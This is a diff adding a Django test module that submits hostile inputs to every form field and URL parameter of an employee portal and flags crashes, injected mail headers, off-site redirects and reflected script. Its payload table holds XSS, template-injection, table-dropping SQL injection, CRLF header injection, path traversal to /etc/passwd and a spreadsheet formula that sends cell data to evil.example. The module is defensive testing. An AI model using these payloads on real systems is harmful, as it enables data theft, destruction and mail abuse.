@@ -1,0 +1,122 @@
+"""Hostile values, in every field of every form and every parameter, and what they come back as."""
+
+from collections.abc import Iterable, Sequence
+
+from django.core import mail
+from django.http import HttpResponse
+
+from portal.models import Employee, Notice
+from portal.services.notices import drain_outbox
+from tests.replaying import Poster
+from tests.visitor import TOKEN
+from tests.walking import Form, forms_of
+
+MARKUP = "<script>alert(7)</script><img src=x onerror=alert(7)>"
+HEADER = "x\r\nX-Injected: yes\r\nBcc: everyone@council.example\r\n\r\nbody"
+VALUES = {
+    "markup": f"'\"></textarea></title>{MARKUP}",
+    "template": "{{ 7|add:7 }}{% debug %}${7*7}#{7*7}%s%n{0.__class__}",
+    "SQL": "1' OR '1'='1'; DROP TABLE portal_employee; --",
+    "header": HEADER,
+    "formula": '=HYPERLINK("https://evil.example?"&A1,"here")',
+    "NUL": "a\0b",
+    "lone surrogate": "a\ud800b",
+    "right to left": "\u202egnp.exe\u2066\u200f",
+    "number": "9" * 400,
+    "no number": "1e999",
+    "minus": "-1",
+    "path": "../../../../etc/passwd",
+    "address": "javascript:alert(7)//@evil.example",
+    "empty": "",
+    "long": "a " * 50_000,
+}
+# What pages read of an address, beside what their forms ask.
+PARAMETERS = ("after", "before", "next", "from", "to", "q", "show", "until", "post", "welcome")
+
+
+class Attacker:
+    """Someone who types hostile values, and looks at what comes back."""
+
+    def __init__(self, person: Employee):
+        self.poster = Poster(person)
+        self.faults: list[str] = []
+        self.tried = 0
+
+    def fill_in(self, form: Form, name: str, kind: str) -> None:
+        """One field of a form with a hostile value, the rest of it as it should be."""
+        typed = {**form.filled_in(), name: VALUES[kind], "csrfmiddlewaretoken": TOKEN}
+        client = self.poster.client
+        with self.poster.trying():
+            if form.method == "post":
+                answer = client.post(form.action, sent(typed), follow=True)
+            else:
+                answer = client.get(form.action.partition("?")[0], sent(typed), follow=True)
+            self.look_at(answer, f"{form.action}: {name} is {kind}")
+            if Notice.objects.exclude(mail_due_at=None).exists():
+                self.look_at_mail(f"{form.action}: {name} is {kind}")
+
+    def ask(self, page: str, name: str, kind: str) -> None:
+        """A page with a hostile value in its address."""
+        with self.poster.trying():
+            answer = self.poster.client.get(page, sent({name: VALUES[kind]}), follow=True)
+            self.look_at(answer, f"{page}?{name}= is {kind}")
+
+    def look_at(self, answer: HttpResponse, told: str) -> None:
+        self.tried += 1
+        statuses = [answer.status_code, *(status for _, status in answer.redirect_chain)]
+        if max(statuses) >= 500:
+            self.faults.append(f"{statuses} {told}")
+        if any(not url.startswith("/") for url, _ in answer.redirect_chain):
+            self.faults.append(f"leads elsewhere: {told}")
+        if "X-Injected" in answer or "Bcc" in answer:
+            self.faults.append(f"a header: {told}")
+        if answer.get("Content-Type", "").startswith("text/html"):
+            text = answer.content.decode()
+            if MARKUP in text or "alert(7)>" in text:
+                self.faults.append(f"markup: {told}")
+
+    def look_at_mail(self, told: str) -> None:
+        mail.outbox = []
+        drain_outbox()
+        for message in mail.outbox:
+            headers = message.message()
+            if "X-Injected" in headers or "Bcc" in headers:
+                self.faults.append(f"a header of a mail: {told}")
+
+
+def sent(fields: dict[str, object]) -> dict[str, object]:
+    """Fields as a browser's bytes may say them: what is no character goes as such all the same."""
+    return {
+        name: value.encode("utf-8", "surrogatepass") if isinstance(value, str) else value
+        for name, value in fields.items()
+    }
+
+
+def attack(
+    people: Iterable[Employee], *, kinds: Sequence[str] = tuple(VALUES), every_field: bool = True
+) -> tuple[dict[str, int], list[str]]:
+    """Fill in each kind of form that people find, and ask each page, with hostile values.
+
+    Each field takes every value, or the fields take the values in turn. Returns the figures and
+    the faults.
+    """
+    Notice.objects.update(mail_due_at=None)
+    seen, faults = set(), []
+    figures = {"forms": 0, "fields": 0, "tries": 0}
+    for person in people:
+        attacker = Attacker(person)
+        forms = [form for form in forms_of(person, attacker.poster.client) if form.kind not in seen]
+        for form in {form.kind: form for form in forms}.values():
+            seen.add(form.kind)
+            figures["forms"] += 1
+            for n, name in enumerate({**form.fields, **form.offered}):
+                figures["fields"] += 1
+                for kind in kinds if every_field else [kinds[n % len(kinds)]]:
+                    attacker.fill_in(form, name, kind)
+        for page in {form.page.partition("?")[0] for form in forms}:
+            for n, name in enumerate(PARAMETERS):
+                for kind in kinds if every_field else [kinds[n % len(kinds)]]:
+                    attacker.ask(page, name, kind)
+        figures["tries"] += attacker.tried
+        faults += attacker.faults
+    return figures, faults
